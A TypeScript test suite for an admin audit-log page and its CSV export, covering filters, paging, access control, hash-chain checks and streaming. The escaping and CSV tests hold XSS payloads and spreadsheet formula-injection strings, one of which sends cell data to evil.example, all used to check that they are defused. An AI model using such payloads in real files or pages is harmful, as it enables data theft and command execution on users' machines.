import { describe, expect, it } from 'vitest'
import { createTestEnv, createTestUser, signIn, T0, BASE_URL, type TestEnv } from '../../test/helpers.ts'
import { recordAuditEvent, type AuditInput } from '../../models/audit.ts'
import { auditEvents, sites } from '../../db/schema.ts'
import { createGroup } from '../../models/groups.ts'
import { createProject } from '../../models/projects.ts'

const DAY = 86_400_000
const HEADER = 'id,time,event,actor_id,actor_email,target_type,target_id,ip,details,hash'

async function adminSession(t: TestEnv) {
  const admin = await createTestUser(t, { role: 'admin', email: 'root@example.org' })
  return { admin, client: await signIn(t, admin) }
}

/** Table rows of the audit page: the event, actor, target, IP and details cells, as text. */
function rowsOf(html: string): { event: string; actor: string; target: string; ip: string; details: string }[] {
  const tbody = html.slice(html.indexOf('<tbody>'), html.indexOf('</tbody>'))
  const text = (cell: string) => cell.replace(/<[^>]*>/g, '').replaceAll('&quot;', '"').trim()
  return [...tbody.matchAll(/<tr>([\s\S]*?)<\/tr>/g)]
    .map((m) => [...m[1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((c) => c[1]!))
    .filter((cells) => cells.length === 6)
    .map((cells) => ({ event: text(cells[1]!), actor: text(cells[2]!), target: text(cells[3]!), ip: text(cells[4]!), details: text(cells[5]!) }))
}

function marksOf(html: string): string[] {
  return rowsOf(html)
    .map((r) => /(mk_\d+)/.exec(r.details)?.[1])
    .filter((m): m is string => m !== undefined)
    .sort()
}

/** RFC 4180 reader (quoted fields may hold commas, doubled quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let field = ''
  let record: string[] = []
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"' && field === '') quoted = true
    else if (ch === ',') {
      record.push(field)
      field = ''
    } else if (ch === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
    } else field += ch
  }
  if (field !== '' || record.length > 0) throw new Error('the CSV does not end with a line break')
  return records
}

function fixture(t: TestEnv) {
  const alice = { id: 50, email: 'alice@example.org' }
  const bob = { id: 51, email: 'bob@example.org' }
  const events: (AuditInput & { mark: string })[] = [
    { mark: 'mk_01', event: 'signin.succeeded', at: T0 - 2 * DAY, actor: alice, targetType: 'user', targetId: 3, ip: '192.0.2.1' },
    { mark: 'mk_02', event: 'signin.failed', at: T0 - DAY, targetType: 'user', targetId: 3, ip: '192.0.2.2' },
    { mark: 'mk_03', event: 'signin.locked', at: T0 - DAY, targetType: 'user', targetId: 30, ip: '192.0.2.2' },
    { mark: 'mk_04', event: 'user.disabled', at: T0, actor: bob, targetType: 'user', targetId: 3, ip: '198.51.100.9' },
    { mark: 'mk_05', event: 'user.disabled_by_import', at: T0, actor: bob, targetType: 'user', targetId: 4, ip: '198.51.100.9' },
    { mark: 'mk_06', event: 'user.enabled', at: T0 + DAY, actor: alice, targetType: 'group', targetId: 3, ip: '192.0.2.1' },
    { mark: 'mk_07', event: 'signinx.other', at: T0, targetType: 'user', targetId: 3, ip: '192.0.2.10' },
    // the last millisecond of 2026-11-02 and the first of 2026-11-03 (UTC)
    { mark: 'mk_09', event: 'role.updated', at: Date.UTC(2026, 10, 2, 23, 59, 59, 999), actor: bob, targetType: 'role', targetId: 9, ip: '192.0.2.9' },
    { mark: 'mk_10', event: 'role.updated', at: Date.UTC(2026, 10, 3, 0, 0, 0, 0), actor: bob, targetType: 'role', targetId: 9, ip: '192.0.2.9' },
  ]
  for (const { mark, ...e } of events) recordAuditEvent(t.db, { ...e, details: { mark } })
}

describe('audit log page', () => {
  it('lists events newest first with actor, target, IP and details, and filters by actor, target, event, IP and day', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    fixture(t)

    const all = await client.get('/admin/audit')
    expect(all.status).toBe(200)
    const allHtml = await all.text()
    expect(marksOf(allHtml)).toEqual(['mk_01', 'mk_02', 'mk_03', 'mk_04', 'mk_05', 'mk_06', 'mk_07', 'mk_09', 'mk_10'])
    // the admin's own sign-in is there too, with its IP
    expect(rowsOf(allHtml).some((r) => r.event === 'signin.succeeded' && r.ip === '203.0.113.7')).toBe(true)
    const row4 = rowsOf(allHtml).find((r) => r.details.includes('mk_04'))!
    expect(row4).toMatchObject({ event: 'user.disabled', actor: 'bob@example.org', target: 'user 3', ip: '198.51.100.9' })
    expect(rowsOf(allHtml).find((r) => r.details.includes('mk_02'))!.actor).toBe('system')

    const marks = async (query: string) => {
      const res = await client.get(`/admin/audit?${query}`)
      expect(res.status).toBe(200)
      const html = await res.text()
      return { marks: marksOf(html), rows: rowsOf(html), html }
    }

    expect((await marks('actor=alice')).marks).toEqual(['mk_01', 'mk_06'])
    expect((await marks('actor=ALICE%40Example')).marks).toEqual(['mk_01', 'mk_06'])

    const target = await marks('target=user+3')
    expect(target.marks).toEqual(['mk_01', 'mk_02', 'mk_04', 'mk_07']) // not user 30, not group 3
    expect(target.rows.every((r) => r.target === 'user 3')).toBe(true)
    expect(target.html).toContain('value="user 3"') // the filter form keeps what was typed

    const prefix = await marks('event=signin')
    expect(prefix.marks).toEqual(['mk_01', 'mk_02', 'mk_03']) // not signinx.other
    expect(prefix.rows.length).toBeGreaterThan(3) // and the admin's own sign-in events
    expect(prefix.rows.every((r) => r.event.startsWith('signin.'))).toBe(true)

    expect((await marks('event=user.disabled')).marks).toEqual(['mk_04']) // exact: not user.disabled_by_import
    expect((await marks('event=user.')).marks).toEqual(['mk_04', 'mk_05', 'mk_06'])
    expect((await marks('ip=192.0.2.2')).marks).toEqual(['mk_02', 'mk_03'])
    expect((await marks('ip=192.0.2')).marks).toEqual([]) // the IP filter is exact

    const days = await marks('from=2026-11-01&to=2026-11-02')
    expect(days.marks).toEqual(['mk_02', 'mk_03', 'mk_04', 'mk_05', 'mk_07', 'mk_09'])
    expect((await marks('from=2026-11-03')).marks).toEqual(['mk_06', 'mk_10'])
    expect((await marks('to=2026-10-31')).marks).toEqual(['mk_01'])
    // a malformed day is ignored rather than failing
    expect((await marks('from=yesterday')).marks).toHaveLength(9)

    expect((await marks('actor=bob&event=user.disabled&target=user+3&ip=198.51.100.9&from=2026-11-02&to=2026-11-02')).marks).toEqual(['mk_04'])
    const none = await marks('actor=nobody')
    expect(none.rows).toEqual([])
    expect(none.html).toMatch(/<td colspan="6">No events/)
  })

  it('escapes what events hold (details, actor emails) when it shows them', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    recordAuditEvent(t.db, { event: 'signin.failed', at: T0, actor: { id: 9, email: '<img src=x onerror=alert(1)>' }, targetType: 'user', targetId: '<b>1</b>', details: { email: '<script>alert(1)</script>' } })
    const html = await (await client.get('/admin/audit')).text()
    expect(html).not.toContain('<script>alert(1)</script>')
    expect(html).not.toContain('<img src=x')
    expect(html).not.toContain('<b>1</b>')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('pages by keyset, 100 events a page: "Older →" continues strictly below the last event shown, keeping the filters', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    for (let n = 0; n < 250; n++) recordAuditEvent(t.db, { event: 'bulk.event', at: T0 + n, targetType: 'thing', targetId: n, details: { n } })
    const ns = (html: string) => rowsOf(html).map((r) => Number(/^N(\d+)$/.exec(r.details)![1])) // details as key–value pairs: "N" then the number

    const first = await (await client.get('/admin/audit?event=bulk.event')).text()
    expect(ns(first)).toEqual(Array.from({ length: 100 }, (_, i) => 249 - i))
    const older = /<a href="([^"]+)">Older →<\/a>/.exec(first)![1]!.replaceAll('&amp;', '&')
    expect(older).toMatch(/^\/admin\/audit\?event=bulk.event&before=\d+$/)
    const lastShownId = t.db.$client.prepare("select id from audit_events where event = 'bulk.event' and details = '{\"n\":150}'").pluck().get() as number
    expect(older).toBe(`/admin/audit?event=bulk.event&before=${lastShownId}`)

    // events recorded meanwhile do not shift page 2 (keyset, not offset)
    for (let n = 250; n < 260; n++) recordAuditEvent(t.db, { event: 'bulk.event', at: T0 + n, details: { n } })
    const second = await (await client.get(older)).text()
    expect(ns(second)).toEqual(Array.from({ length: 100 }, (_, i) => 149 - i))
    expect(second).toContain('>Newest</a>')
    const third = await (await client.get(/<a href="([^"]+)">Older →<\/a>/.exec(second)![1]!.replaceAll('&amp;', '&'))).text()
    expect(ns(third)).toEqual(Array.from({ length: 50 }, (_, i) => 49 - i))
    expect(third).not.toContain('Older →')

    // without a filter the admin's own events count too, and the pager still appears
    const unfiltered = await (await client.get('/admin/audit')).text()
    expect(rowsOf(unfiltered)).toHaveLength(100)
    expect(unfiltered).toContain('Older →')
    // a nonsense cursor is ignored: first page
    expect(ns(await (await client.get('/admin/audit?event=bulk.event&before=abc')).text())[0]).toBe(259)
    expect(ns(await (await client.get('/admin/audit?event=bulk.event&before=-5')).text())[0]).toBe(259)
  })

  it('has no route that deletes or changes events (every attempt is refused and the log is unchanged)', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    fixture(t)
    const count = () => t.db.select().from(auditEvents).all().length
    const before = count()
    const page = await (await client.get('/admin/audit')).text()
    // the page offers no form that posts anything (other than signing out)
    expect([...page.matchAll(/<form[^>]*method="post"[^>]*>/gi)].map((m) => m[0])).toEqual(['<form method="post" action="/logout" class="inline">'])

    const attempts: [string, string][] = [
      ['DELETE', '/admin/audit'],
      ['DELETE', '/admin/audit/1'],
      ['DELETE', '/admin/audit.csv'],
      ['PUT', '/admin/audit/1'],
      ['PATCH', '/admin/audit/1'],
      ['POST', '/admin/audit'],
      ['POST', '/admin/audit/1'],
      ['POST', '/admin/audit/1/delete'],
      ['POST', '/admin/audit/delete'],
      ['POST', '/admin/audit/clear'],
      ['POST', '/admin/audit.csv'],
    ]
    for (const [method, path] of attempts) {
      const res = await client.request(path, { method, body: new URLSearchParams({ confirm: 'yes', _method: 'DELETE' }), headers: { Origin: BASE_URL, 'Content-Type': 'application/x-www-form-urlencoded' } })
      expect([404, 405], `${method} ${path}`).toContain(res.status)
    }
    expect(count()).toBe(before)
  })

  it('answers 403 to a researcher on the page and on the CSV, naming audit.view, and leaks no event', async () => {
    const t = createTestEnv()
    fixture(t)
    const researcher = await createTestUser(t, { role: 'researcher' })
    const client = await signIn(t, researcher)
    for (const path of ['/admin/audit', '/admin/audit.csv', '/admin/audit?event=signin', '/admin/audit.csv?actor=alice']) {
      const res = await client.get(path)
      expect(res.status, path).toBe(403)
      expect(res.headers.get('Content-Disposition'), path).toBeNull()
      const body = await res.text()
      expect(body, path).toContain('audit.view')
      expect(body, path).not.toContain('mk_0')
      expect(body, path).not.toContain(HEADER)
    }
    const anonymous = await t.client().get('/admin/audit.csv')
    expect(anonymous.status).toBe(303)
    expect(anonymous.headers.get('Location')).toBe('/login')
  })
})

describe('audit log CSV export', () => {
  it('is an attachment with a header row and one record per event, oldest first, with the filters of the page', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    fixture(t)
    const res = await client.get('/admin/audit.csv')
    expect(res.status).toBe(200)
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('Content-Disposition')).toBe('attachment; filename="gatehouse-audit-2026-11-02.csv"')
    const text = await res.text()
    const records = parseCsv(text)
    expect(text.split('\n')[0]).toBe(HEADER)
    const total = t.db.select().from(auditEvents).all().length
    expect(records).toHaveLength(total + 1)
    expect(text.split('\n')).toHaveLength(total + 2) // nothing here holds a line break: one line per event (+ header, + final newline)
    const ids = records.slice(1).map((r) => Number(r[0]))
    expect(ids).toEqual([...ids].sort((a, b) => a - b))
    expect(records.every((r) => r.length === 10)).toBe(true)

    const row4 = records.find((r) => r[8]!.includes('mk_04'))!
    const hash4 = t.db.$client.prepare('select hash from audit_events where id = ?').pluck().get(Number(row4[0]))
    expect(hash4).toMatch(/^[0-9a-f]{64}$/)
    expect(row4).toEqual([expect.stringMatching(/^\d+$/), new Date(T0).toISOString(), 'user.disabled', '51', 'bob@example.org', 'user', '3', '198.51.100.9', '{"mark":"mk_04"}', hash4])
    const row2 = records.find((r) => r[8]!.includes('mk_02'))!
    expect(row2[3]).toBe('') // no actor: empty, not "null"
    expect(row2[4]).toBe('')

    // the page's own "Download as CSV" link carries its filters
    const page = await (await client.get('/admin/audit?event=user.disabled&actor=bob')).text()
    const link = /<a href="(\/admin\/audit\.csv[^"]*)">Download as CSV<\/a>/.exec(page)![1]!.replaceAll('&amp;', '&')
    expect(link).toBe('/admin/audit.csv?actor=bob&event=user.disabled')
    const filtered = parseCsv(await (await client.get(link)).text())
    expect(filtered.map((r) => r[8])).toEqual(['details', '{"mark":"mk_04"}'])

    const byTarget = parseCsv(await (await client.get('/admin/audit.csv?target=user+3&from=2026-11-01&to=2026-11-02')).text())
    expect(byTarget.slice(1).map((r) => JSON.parse(r[8]!).mark)).toEqual(['mk_02', 'mk_04', 'mk_07'])
    const signins = parseCsv(await (await client.get('/admin/audit.csv?event=signin&ip=192.0.2.2')).text())
    expect(signins.slice(1).map((r) => r[2])).toEqual(['signin.failed', 'signin.locked'])
    const empty = await (await client.get('/admin/audit.csv?actor=nobody')).text()
    expect(empty).toBe(HEADER + '\n')
  })

  it('quotes commas, quotes and line breaks, and defuses spreadsheet formulas with a leading apostrophe', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    const cases: [string, string][] = [
      // [stored value, what a CSV reader must get back]
      ['plain', 'plain'],
      ['Smith, Jane', 'Smith, Jane'],
      ['say "hi"', 'say "hi"'],
      ['line one\nline two', 'line one\nline two'],
      ['carriage\r\nreturn', 'carriage\r\nreturn'],
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
      ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
      ['-2+3', `'-2+3`],
      ['@SUM(1+1)', `'@SUM(1+1)`],
      ['\t=1+1', `'\t=1+1`],
      ['a=1', 'a=1'],
    ]
    for (const [i, [value]] of cases.entries()) {
      recordAuditEvent(t.db, { event: 'test.csv', at: T0 + i, actor: { id: 7, email: `actor${i}@example.org` }, targetType: 'case', targetId: value, ip: '192.0.2.1', details: { note: value } })
    }
    const text = await (await client.get('/admin/audit.csv?event=test.csv')).text()
    const records = parseCsv(text).slice(1)
    expect(records).toHaveLength(cases.length)
    expect(records.map((r) => r[6])).toEqual(cases.map(([, expected]) => expected))
    // the raw text: a value with a comma, quote or line break is wrapped in quotes, inner quotes doubled
    expect(text).toContain(',"Smith, Jane",')
    expect(text).toContain(',"say ""hi""",')
    expect(text).toContain(',"line one\nline two",')
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
    expect(text).toContain(",'-2+3,")
    expect(text).toContain(",a=1,")
    // no field starts with a formula character once read back
    for (const r of records) for (const field of r) expect(field, field).not.toMatch(/^[=+\-@\t\r]/)
    // details is JSON, quoted as a whole
    expect(JSON.parse(records[1]![8]!)).toEqual({ note: 'Smith, Jane' })
    expect(JSON.parse(records[3]![8]!)).toEqual({ note: 'line one\nline two' })
  })

  it('streams 200,000 events without holding them in memory', { timeout: 180_000 }, async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    const N = 200_000
    const insert = t.db.$client.prepare('insert into audit_events (at, event, actor_id, actor_email, target_type, target_id, ip, details) values (?, ?, ?, ?, ?, ?, ?, ?)')
    const started = performance.now()
    t.db.$client.transaction(() => {
      for (let i = 0; i < N; i++) insert.run(T0 + i, i % 2 ? 'signin.succeeded' : 'signin.failed', i % 97, `user${i % 97}@example.org`, 'user', String(i % 97), `10.0.${(i >> 8) & 255}.${i & 255}`, `{"n":${i},"agent":"Mozilla/5.0 (X11; Linux x86_64)"}`)
    })()
    const insertMs = performance.now() - started
    const total = t.db.$client.prepare('select count(*) from audit_events').pluck().get() as number
    expect(total).toBeGreaterThanOrEqual(N)

    globalThis.gc?.()
    const heapBefore = process.memoryUsage().heapUsed
    let heapPeak = heapBefore
    const fetchStarted = performance.now()
    const res = await client.get('/admin/audit.csv')
    expect(res.status).toBe(200)
    // read it as a client would, chunk by chunk, counting lines (never holding the whole body)
    const reader = res.body!.getReader()
    const decoder = new TextDecoder()
    let lines = 0
    let bytes = 0
    let chunks = 0
    let firstLine = ''
    let tail = ''
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      chunks++
      bytes += value.byteLength
      const text = decoder.decode(value, { stream: true })
      if (firstLine === '' && lines === 0) firstLine = text.slice(0, text.indexOf('\n'))
      for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1)) lines++
      tail = (tail + text).slice(-200)
      if (chunks % 20 === 0) heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed)
    }
    const fetchMs = performance.now() - fetchStarted
    heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed)
    const heapAfter = process.memoryUsage().heapUsed

    expect(firstLine).toBe(HEADER)
    expect(lines).toBe(total + 1)
    expect(lines).toBeGreaterThanOrEqual(200_001)
    expect(chunks).toBeGreaterThan(100) // delivered in pieces, not as one body
    expect(tail.trimEnd().split('\n').at(-1)).toMatch(/^\d+,2026-11-02T09:03:19\.999Z,signin\.succeeded,82,user82@example\.org,user,82,10\.0\.13\.63,"\{""n"":199999,/) // the newest (n = 199,999) comes last
    const mb = (n: number) => Math.round((n / 1024 / 1024) * 10) / 10
    console.log(
      `[audit CSV streaming] ${total} events, ${lines} lines, ${mb(bytes)} MB in ${chunks} chunks; insert ${Math.round(insertMs)} ms, export ${Math.round(fetchMs)} ms; ` +
        `heapUsed before ${mb(heapBefore)} MB, peak ${mb(heapPeak)} MB, after ${mb(heapAfter)} MB (peak − before ${mb(heapPeak - heapBefore)} MB)`,
    )
  })

  it('stops reading the audit log when the client abandons the CSV download', { timeout: 60_000 }, async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    const insert = t.db.$client.prepare("insert into audit_events (at, event, details) values (?, 'bulk.event', ?)")
    t.db.$client.transaction(() => {
      for (let i = 0; i < 100_000; i++) insert.run(T0 + i, `{"n":${i}}`)
    })()
    // count the chunk reads (1,000 events each) the export makes
    let chunkReads = 0
    const sqlite = t.db.$client
    const prepare = sqlite.prepare.bind(sqlite)
    sqlite.prepare = ((source: string) => {
      const statement = prepare(source)
      if (source.includes('from audit_events') && source.includes('id > ?')) {
        const all = statement.all.bind(statement)
        statement.all = ((...params: unknown[]) => {
          chunkReads++
          return all(...params)
        }) as typeof statement.all
      }
      return statement
    }) as typeof sqlite.prepare

    const res = await client.get('/admin/audit.csv')
    const reader = res.body!.getReader()
    for (let i = 0; i < 3; i++) await reader.read()
    await reader.cancel() // the browser tab is closed, the connection dropped
    const atCancel = chunkReads
    // let the handler run to wherever it goes
    let last = -1
    for (let i = 0; i < 100 && chunkReads !== last; i++) {
      last = chunkReads
      await new Promise((r) => setTimeout(r, 50))
    }
    console.log(`[audit CSV abandoned] chunk reads at cancel ${atCancel}, in the end ${chunkReads} (of ${Math.ceil(100_000 / 1000) + 1} for the whole log)`)
    // a chunk or two in flight is fine; reading (and formatting) the whole log for nobody is not
    expect(chunkReads).toBeLessThanOrEqual(atCancel + 2)
  })
})

describe('audit chain on the admin page, and access.denied', () => {
  it('shows the last verification: when, and ok with the count or the first bad event', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    fixture(t)
    expect(await (await client.get('/admin/audit')).text()).toContain('The hash chain has not been verified yet')
    const { runAuditCheck } = await import('../../models/audit-chain.ts')
    runAuditCheck(t.db, T0)
    const total = t.db.$client.prepare('select count(*) from audit_events').pluck().get() as number
    const okPage = await (await client.get('/admin/audit')).text()
    expect(okPage).toContain(`Hash chain intact: ${total} events`)
    expect(okPage).toContain(new Date(T0).toISOString())
    t.db.$client.exec('drop trigger audit_events_no_update')
    t.db.$client.prepare("update audit_events set ip = '10.9.9.9' where id = 3").run()
    runAuditCheck(t.db, T0 + DAY)
    const badPage = await (await client.get('/admin/audit')).text()
    expect(badPage).toMatch(/Hash chain BROKEN at event 3 \(signin\.failed\)<\/strong>: its hash does not match/)
  })

  it('records a 403 of a signed-in user as access.denied with route and permission, at most once a minute per user and route', async () => {
    const t = createTestEnv()
    const researcher = await createTestUser(t, { role: 'researcher', email: 'res@example.org' })
    const other = await createTestUser(t, { role: 'researcher', email: 'other@example.org' })
    const client = await signIn(t, researcher)
    const otherClient = await signIn(t, other)
    const denied = () => t.db.$client.prepare("select actor_id, actor_email, details from audit_events where event = 'access.denied' order by id").all() as { actor_id: number; actor_email: string; details: string }[]
    for (let i = 0; i < 3; i++) expect((await client.get('/admin/audit')).status).toBe(403)
    expect(denied()).toEqual([{ actor_id: researcher.user.id, actor_email: 'res@example.org', details: JSON.stringify({ method: 'GET', route: '/admin/audit', permission: 'audit.view' }) }])
    expect((await client.get('/admin/audit.csv')).status).toBe(403) // another route
    expect((await otherClient.get('/admin/audit')).status).toBe(403) // another user
    expect(denied()).toHaveLength(3)
    t.clock.advance(59_000)
    await client.get('/admin/audit')
    expect(denied()).toHaveLength(3)
    t.clock.advance(2_000)
    await client.get('/admin/audit')
    expect(denied()).toHaveLength(4)
    const { verifyAuditChain } = await import('../../models/audit-chain.ts')
    expect(verifyAuditChain(t.db)).toMatchObject({ ok: true })
  })
})

describe('audit log readability', () => {
  it('shows details as key–value pairs, never JSON, and names and links targets (resolved in one query, not per row)', async () => {
    const t = createTestEnv()
    const { admin, client } = await adminSession(t)
    const at = t.clock.now()
    const group = createGroup(t.db, { name: 'Leeds imaging', description: '' }, { at, actor: { id: admin.user.id, email: admin.user.email }, ip: '' })
    const project = createProject(t.db, { name: 'Lung <nodules>', description: '', groupId: null }, { actor: { id: admin.user.id, email: admin.user.email }, now: at, ip: '' })
    recordAuditEvent(t.db, { event: 'user.role_changed', at, actor: { id: admin.user.id, email: admin.user.email }, targetType: 'user', targetId: admin.user.id, details: { from: 'researcher', to: 'admin', changed_at: at, tags: ['a', 'b'], nested: { ok: true } } })
    recordAuditEvent(t.db, { event: 'user.disabled', at, targetType: 'user', targetId: 999 }) // a user that does not exist (any more)

    const statements: string[] = []
    const prepare = t.db.$client.prepare.bind(t.db.$client)
    t.db.$client.prepare = ((source: string) => {
      statements.push(source)
      return prepare(source)
    }) as typeof t.db.$client.prepare
    const html = await (await client.get('/admin/audit')).text()
    t.db.$client.prepare = prepare
    // Note: one statement resolves every target type on the page (users, projects, groups, …).
    expect(statements.filter((q) => /from users where id in/i.test(q) || /union all/i.test(q)).length).toBe(1)

    const tbody = html.slice(html.indexOf('<tbody>'), html.indexOf('</tbody>'))
    expect(tbody).not.toContain('{"')
    expect(tbody).not.toContain('{&quot;')
    expect(tbody).not.toMatch(/\b1\d{12}\b/) // the changed_at detail is a formatted time
    expect(tbody).toMatch(/<dt>From<\/dt><dd>researcher<\/dd><dt>To<\/dt><dd>admin<\/dd><dt>Changed at<\/dt><dd><time datetime="[^"]+">[^<]+ UTC<\/time><\/dd><dt>Tags<\/dt><dd>a, b<\/dd><dt>Nested<\/dt><dd><dl class="facts kv"><dt>Ok<\/dt><dd>yes<\/dd><\/dl><\/dd>/)
    expect(tbody).toContain(`<a href="/admin/users/${admin.user.id}">root@example.org</a>`)
    expect(tbody).toContain(`<a href="/admin/groups/${group.id}">Leeds imaging</a>`)
    expect(tbody).toContain(`<a href="/projects/${project.id}">Lung &lt;nodules&gt;</a>`)
    expect(rowsOf(html).find((r) => r.event === 'user.disabled')!.target).toBe('user 999')
    // The dashboard and the user page resolve names the same way.
    expect(await (await client.get('/admin')).text()).toContain(`<a href="/admin/groups/${group.id}">Leeds imaging</a>`)
  })

  it('names and links the records the details refer to (user, group, project, sites), in the same one query; a record that is gone shows as "type id"', async () => {
    const t = createTestEnv()
    const { admin, client } = await adminSession(t)
    const at = t.clock.now()
    const actor = { id: admin.user.id, email: admin.user.email }
    const group = createGroup(t.db, { name: 'Leeds imaging', description: '' }, { at, actor, ip: '' })
    const project = createProject(t.db, { name: 'Lung nodules', description: '', groupId: null }, { actor, now: at, ip: '' })
    const [leeds, york] = t.db.insert(sites).values([
      { name: 'Leeds <LTH>', code: 'LTH', apiKeyHash: 'a', apiKeyPrefix: 'a', createdAt: at, keyRotatedAt: at },
      { name: 'York', code: 'YRK', apiKeyHash: 'b', apiKeyPrefix: 'b', createdAt: at, keyRotatedAt: at },
    ]).returning().all()
    recordAuditEvent(t.db, { event: 'group.member_added', at, actor, targetType: 'group', targetId: group.id, details: { user_id: admin.user.id, role: 'member' } })
    recordAuditEvent(t.db, { event: 'project.staged', at, actor, targetType: 'project', targetId: project.id, details: { site_ids: [leeds!.id, york!.id, 9999], group_id: group.id } })
    recordAuditEvent(t.db, { event: 'invitation.created', at, actor, targetType: 'invitation', targetId: 1, details: { project_ids: [project.id], user_id: 'not an id' } })

    const statements: string[] = []
    const prepare = t.db.$client.prepare.bind(t.db.$client)
    t.db.$client.prepare = ((source: string) => {
      statements.push(source)
      return prepare(source)
    }) as typeof t.db.$client.prepare
    const html = await (await client.get('/admin/audit')).text()
    t.db.$client.prepare = prepare
    expect(statements.filter((q) => /union all|where id in/i.test(q)).length).toBe(1)

    const details = (event: string) => {
      const row = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) => m[1]!).find((r) => r.includes(`<code>${event}</code>`))!
      return /<td class="details">([\s\S]*?)<\/td>$/.exec(row)![1]
    }
    expect(details('group.member_added')).toBe(`<dl class="facts kv"><dt>User</dt><dd><a href="/admin/users/${admin.user.id}">root@example.org</a></dd><dt>Role</dt><dd>member</dd></dl>`)
    expect(details('project.staged')).toBe(
      `<dl class="facts kv"><dt>Sites</dt><dd><a href="/admin/sites/${leeds!.id}">Leeds &lt;LTH&gt;</a>, <a href="/admin/sites/${york!.id}">York</a>, site 9999</dd><dt>Group</dt><dd><a href="/admin/groups/${group.id}">Leeds imaging</a></dd></dl>`,
    )
    // a value that is not an id is shown as stored, under its own label
    expect(details('invitation.created')).toBe(`<dl class="facts kv"><dt>Projects</dt><dd><a href="/projects/${project.id}">Lung nodules</a></dd><dt>User id</dt><dd>not an id</dd></dl>`)
  })

  it('answers a reversed date range with a message naming both days (and a link to the swapped range), not an empty list', async () => {
    const t = createTestEnv()
    const { client } = await adminSession(t)
    fixture(t)
    const res = await client.get('/admin/audit?from=2026-11-03&to=2026-11-01&actor=bob')
    expect(res.status).toBe(422)
    const html = await res.text()
    expect(html).toContain('The end day (2026-11-01) is before the start day (2026-11-03).')
    expect(html).toContain('href="/admin/audit?actor=bob&amp;from=2026-11-01&amp;to=2026-11-03"')
    expect(html).toMatch(/<input id="f-to" name="to" type="date" value="2026-11-01" aria-invalid="true"/)
    expect(html).not.toContain('<tbody>')
    expect(html).not.toContain('No events')
    // The same day twice is a valid one-day range.
    const oneDay = await client.get('/admin/audit?from=2026-11-02&to=2026-11-02')
    expect(oneDay.status).toBe(200)
    expect(marksOf(await oneDay.text())).toEqual(['mk_04', 'mk_05', 'mk_07', 'mk_09'])
    // The CSV of the same filter says so too, instead of a file with only a header.
    const csv = await client.get('/admin/audit.csv?from=2026-11-03&to=2026-11-01&actor=bob')
    expect(csv.status).toBe(422)
    expect(csv.headers.get('Content-Disposition')).toBeNull()
    expect(await csv.text()).toBe('The end day (2026-11-01) is before the start day (2026-11-03), so no event can match. Swap the days or clear one of them.\n')
    expect((await client.get('/admin/audit.csv?from=2026-11-02&to=2026-11-02')).status).toBe(200)
  })
})
